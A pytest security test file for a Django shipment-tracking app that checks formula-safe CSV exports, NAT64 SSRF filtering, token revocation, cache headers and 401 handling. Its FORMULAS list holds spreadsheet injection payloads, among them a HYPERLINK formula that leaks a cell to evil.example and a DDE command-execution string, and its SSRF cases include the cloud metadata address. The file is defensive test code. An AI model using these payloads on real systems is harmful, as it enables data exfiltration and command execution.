"""Formula-safe CSV cells, NAT64 webhook targets, tokens of removed members, no-store on shown secrets,
private signed-in pages, and 401 (not a CSRF 403) for a request nobody signed in."""

import csv
import io
import json
from collections.abc import Callable

import pytest
from django.core.files.base import ContentFile
from django.test import Client

from waybill_contracts.enums import Role
from waybill_django.accounts.models import User
from waybill_django.api.tokens import api_token_create
from waybill_django.imports.services import shipment_import_run, shipment_import_start
from waybill_django.organizations.models import Membership, Organization
from waybill_django.organizations.services import (
    invitation_accept,
    invitation_create,
    invitation_token,
    membership_remove,
)
from waybill_django.webhooks.targets import TargetRefused, resolve_target

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]


def test_formulas_in_the_import_error_report_are_inert(organization: Organization, dispatcher: User) -> None:
    rows = "reference,origin_address,destination_address\n" + "".join(
        f'"{formula.replace(chr(34), chr(34) * 2)}",,B\n' for formula in FORMULAS
    )
    started = shipment_import_start(
        organization=organization, actor=dispatcher, upload=ContentFile(rows.encode(), name="f.csv")
    )
    finished = shipment_import_run(job_id=started.pk)
    assert finished is not None
    with finished.error_report.open("rb") as report:
        references = [row[1] for row in list(csv.reader(io.StringIO(report.read().decode())))[1:]]

    assert references == ["'" + formula for formula in FORMULAS]


@pytest.mark.parametrize(
    "url",
    [
        "http://[64:ff9b::7f00:1]/",  # 127.0.0.1
        "http://[64:ff9b::a9fe:a9fe]/",  # 169.254.169.254, the cloud metadata address
        "http://[64:ff9b::a00:1]/",  # 10.0.0.1
        "http://[64:ff9b:1::808:808]/",  # the local-use prefix, whatever it embeds
    ],
)
def test_nat64_addresses_embedding_private_ones_are_refused(url: str) -> None:
    with pytest.raises(TargetRefused):
        resolve_target(url, allow_private=False)


def test_a_nat64_address_embedding_a_public_one_is_allowed() -> None:
    assert (
        resolve_target("http://[64:ff9b::808:808]/", allow_private=False).url == "http://[64:ff9b::808:808]/"
    )


def test_a_removed_members_api_token_stays_dead_after_they_are_invited_again(
    client: Client, organization: Organization, make_member: Callable[..., User]
) -> None:
    owner = make_member(Role.OWNER, "owner@acme.test")
    admin = make_member(Role.ADMIN, "admin@acme.test")
    _, secret = api_token_create(organization=organization, actor=admin, name="theirs")
    membership_remove(membership=Membership.unscoped.get(user=admin, organization=organization), actor=owner)
    invitation = invitation_create(organization=organization, email=admin.email, role=Role.ADMIN, actor=owner)
    invitation_accept(token=invitation_token(invitation), user=admin)

    response = client.get("/api/v1/shipments", headers={"Authorization": f"Bearer {secret}"})

    assert response.status_code == 401


def test_responses_that_show_a_token_secret_are_never_stored(
    client: Client, organization: Organization, make_member: Callable[..., User]
) -> None:
    owner = make_member(Role.OWNER, "owner@acme.test")
    client.force_login(owner)

    page = client.post("/settings/tokens/", {"name": "ERP"})
    api = client.post(
        "/api/v1/tokens",
        json.dumps({"name": "ERP 2"}),
        content_type="application/json",
        headers={"X-CSRFToken": client.cookies["csrftoken"].value} if "csrftoken" in client.cookies else {},
    )

    assert page.status_code == 200
    assert "wbt_" in page.content.decode()
    assert page["Cache-Control"] == "no-store"
    assert api.status_code == 201, api.content
    assert api["Cache-Control"] == "no-store"


def test_a_signed_in_persons_pages_are_kept_by_no_shared_cache(
    client: Client, make_member: Callable[..., User]
) -> None:
    client.force_login(make_member(Role.DISPATCHER))

    pages = [client.get(path) for path in ("/", "/shipments/", "/fleet/", "/map/")]

    assert [page.status_code for page in pages] == [200, 200, 200, 200]
    assert {page["Cache-Control"] for page in pages} == {"private, no-cache"}


def test_a_request_no_session_signs_in_is_401_for_writes_as_for_reads(
    organization: Organization, make_member: Callable[..., User]
) -> None:
    owner = make_member(Role.OWNER, "owner@acme.test")
    _, secret = api_token_create(organization=organization, actor=owner, name="ERP")
    bearer = {"Authorization": f"Bearer {secret}"}
    client = Client(enforce_csrf_checks=True)  # as a browser or script meets it

    def answer(method: str, path: str, headers: dict[str, str]) -> tuple[int, str]:
        response = client.generic(method, path, data="{}", content_type="application/json", headers=headers)
        return response.status_code, response.json()["detail"]

    unauthorized = (401, "Unauthorized")
    assert answer("POST", "/api/v1/shipments", {}) == unauthorized
    assert answer("GET", "/api/v1/shipments", {}) == unauthorized
    # An API token on the session-only operations: the same documented 401, reads and writes alike.
    for method, path in (
        ("GET", "/api/v1/tokens"),
        ("POST", "/api/v1/tokens"),
        ("DELETE", "/api/v1/tokens/1"),
        ("POST", "/api/v1/invitations"),
        ("PATCH", "/api/v1/members/1"),
    ):
        assert answer(method, path, bearer) == unauthorized, (method, path)
